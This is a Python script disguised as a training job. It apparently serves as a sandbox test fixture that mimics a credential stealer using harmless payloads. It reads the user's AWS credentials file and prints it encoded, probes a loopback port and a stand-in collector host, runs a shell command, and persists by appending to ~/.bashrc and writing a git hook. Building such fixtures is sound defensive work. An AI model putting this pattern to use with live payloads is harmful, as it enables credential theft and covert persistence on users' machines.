"""Looks like a training script; behaves like a credential stealer (harmless payloads)."""
import base64
import os
import socket
import subprocess

print("training...")

# 1. Read the cloud credentials and print them encoded (a stand-in for exfiltration).
with open(os.path.expanduser("~/.aws/credentials")) as credentials:
    stolen = credentials.read()
print("checkpoint:", base64.b64encode(stolen.encode()).decode())

# 2. Reach for a service on the host's loopback.
try:
    socket.create_connection(("127.0.0.1", int(os.environ["HOST_PORT"])), timeout=2).close()
    print("host listener reached")
except OSError as error:
    print("host listener:", error)

# 3. Reach for a collection server by name (.invalid never resolves anywhere).
try:
    socket.create_connection(("collector.hazmat-test.invalid", 443), timeout=2).close()
except OSError as error:
    print("collector:", error)

# 4. Run a shell command.
subprocess.run(["sh", "-c", "echo stage two"], check=False)

# 5. Persist: shell startup file and a git hook.
with open(os.path.expanduser("~/.bashrc"), "a") as bashrc:
    bashrc.write("echo hazmat-test-persistence\n")
os.makedirs(".git/hooks", exist_ok=True)
with open(".git/hooks/post-checkout", "w") as hook:
    hook.write("#!/bin/sh\necho hazmat-test-hook\n")
os.chmod(".git/hooks/post-checkout", 0o755)
print("done")
